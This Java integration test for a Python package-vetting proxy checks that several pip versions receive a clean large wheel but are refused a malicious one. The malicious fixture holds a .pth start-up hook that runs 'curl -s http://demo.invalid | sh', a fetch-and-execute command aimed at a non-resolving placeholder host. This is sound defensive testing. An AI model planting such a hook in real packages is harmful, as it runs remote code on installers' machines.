package dev.gatehouse.cli.installers;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.gatehouse.cli.installers.Installer.Outcome;
import dev.gatehouse.index.IndexServer;
import dev.gatehouse.index.settings.AnonymousReading;
import dev.gatehouse.index.settings.IndexSettings;
import dev.gatehouse.outbound.OutboundSettings;
import dev.gatehouse.packaging.artifact.Sha256;
import dev.gatehouse.samples.LargeWheel;
import dev.gatehouse.upstream.UpstreamSettings;
import dev.gatehouse.vetting.VettingSettings;
import dev.gatehouse.vetting.evidence.AdvisorySettings;
import dev.gatehouse.vetting.policy.Mode;
import dev.gatehouse.vetting.policy.Policy;
import dev.gatehouse.vetting.policy.VettingRules;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Real pips take wheels that are too large to be vetted before their first byte leaves, with the
 * age rule off: a clean one arrives, a malicious one never does, and its user reads why.
 *
 * <p>The upstream holds the last byte back until the client has a megabyte of the wheel. A server
 * that answered only after the vetting would therefore never answer, and the test fail.
 *
 * <p>{@code tools/large-wheels} runs this with wheels of 2 GB.
 */
class WithheldTailIT {
  /** Bytes; the system property is what {@code tools/large-wheels} sets. */
  private static final long SIZE = Long.getLong("gatehouse.large-wheel", 200_000_000L);

  private static final String PROJECT = "acme-models";
  private static final long BEGINNING = 1_000_000;

  /** A re-enacted start-up hook, whose host cannot exist (RFC 2606). */
  private static final Map<String, String> HOOK =
      Map.of("acme_init.pth", "import os; os.system('curl -s http://demo.invalid | sh')\n");

  private static final Policy INSPECTION_ALONE =
      new Policy(
          Mode.VETTED,
          List.of(),
          List.of(),
          List.of(),
          new VettingRules(Duration.ZERO, List.of(), null, 2, true, null, Duration.ofDays(3)));

  @TempDir private static Path wheels;
  private static LargeWheel clean;
  private static LargeWheel malicious;

  @TempDir private Path folder;

  /** The pips of this machine. */
  enum Pip {
    OLDEST,
    MACHINE,
    NEWEST;

    Installer get() {
      Optional<Installer> found =
          switch (this) {
            case OLDEST -> Installer.oldestPip();
            case MACHINE -> Installer.pipOfTheMachine();
            case NEWEST -> Installer.newestPip();
          };
      assumeTrue(found.isPresent(), "this pip is not on this machine");
      return found.orElseThrow();
    }
  }

  @BeforeAll
  static void build() throws IOException {
    clean =
        LargeWheel.write(
            Files.createDirectory(wheels.resolve("clean")), PROJECT, "1.0", SIZE, Map.of());
    malicious =
        LargeWheel.write(
            Files.createDirectory(wheels.resolve("malicious")), PROJECT, "1.0", SIZE, HOOK);
  }

  @ParameterizedTest
  @EnumSource
  void aCleanWheelArrivesWhole(Pip pip) throws Exception {
    Installer client = pip.get();
    try (HoldingServer upstream = new HoldingServer(PROJECT, clean);
        IndexServer server = serve(upstream);
        Relay relay = new Relay(server.address(), BEGINNING, upstream::release)) {
      Path target = folder.resolve("target");
      long start = System.nanoTime();

      Outcome outcome = client.download(relay.uri().resolve("simple/"), target, PROJECT + "==1.0");

      assertThat(outcome.exitCode()).as(outcome.output()).isZero();
      try (InputStream in = Files.newInputStream(target.resolve(clean.filename()))) {
        assertThat(Sha256.of(in)).isEqualTo(clean.sha256());
      }
      note(client, "clean", start, relay);
    }
  }

  @ParameterizedTest
  @EnumSource
  void aMaliciousWheelNeverArrivesAndItsUserReadsWhy(Pip pip) throws Exception {
    Installer client = pip.get();
    try (HoldingServer upstream = new HoldingServer(PROJECT, malicious);
        IndexServer server = serve(upstream);
        Relay relay = new Relay(server.address(), BEGINNING, upstream::release)) {
      Path target = folder.resolve("target");
      long start = System.nanoTime();

      Outcome first = client.download(relay.uri().resolve("simple/"), target, PROJECT + "==1.0");

      assertThat(first.exitCode()).as(first.output()).isNotZero();
      assertThat(relay.longest())
          .as("bytes of the wheel that the client was given")
          .isBetween(BEGINNING, malicious.size() - malicious.size() / 32 + 4096);
      note(client, explains(first) ? "malicious, explained at once" : "malicious", start, relay);
      Outcome second = client.download(relay.uri().resolve("simple/"), target, PROJECT + "==1.0");
      assertThat(second.exitCode()).as(second.output()).isNotZero();
      assertThat(List.of(first, second)).as(second.output()).anyMatch(WithheldTailIT::explains);
      assertThat(target.resolve(malicious.filename())).doesNotExist();
    }
  }

  private static boolean explains(Outcome outcome) {
    return outcome.output().contains("403")
        && outcome.output().contains("Gatehouse refuses acme-models 1.0: acme_init.pth");
  }

  private IndexServer serve(HoldingServer upstream) throws Exception {
    IndexSettings settings =
        new IndexSettings(
            new InetSocketAddress(InetAddress.getLoopbackAddress(), 0),
            null,
            null,
            List.of(),
            folder.resolve("data"),
            AnonymousReading.LOOPBACK);
    return IndexServer.start(
        settings,
        INSPECTION_ALONE,
        new VettingSettings(AdvisorySettings.BUILT_IN, VettingSettings.KEEP_DOWNLOADS, "test"),
        List.of(new UpstreamSettings("source", upstream.simple(), null, List.of(), List.of())),
        OutboundSettings.direct(),
        _ -> INSPECTION_ALONE,
        Clock.systemUTC());
  }

  /** For {@code tools/large-wheels}, which prints it. */
  private static void note(Installer client, String what, long start, Relay relay)
      throws IOException {
    String file = System.getProperty("gatehouse.figures");
    if (file != null) {
      String line =
          String.format(
              Locale.ROOT,
              "| %s | %s | %d | %.1f |%n",
              client.version(),
              what,
              relay.longest() / 1_000_000,
              (System.nanoTime() - start) / 1e9);
      Files.writeString(
          Path.of(file), line, UTF_8, StandardOpenOption.CREATE, StandardOpenOption.APPEND);
    }
  }
}
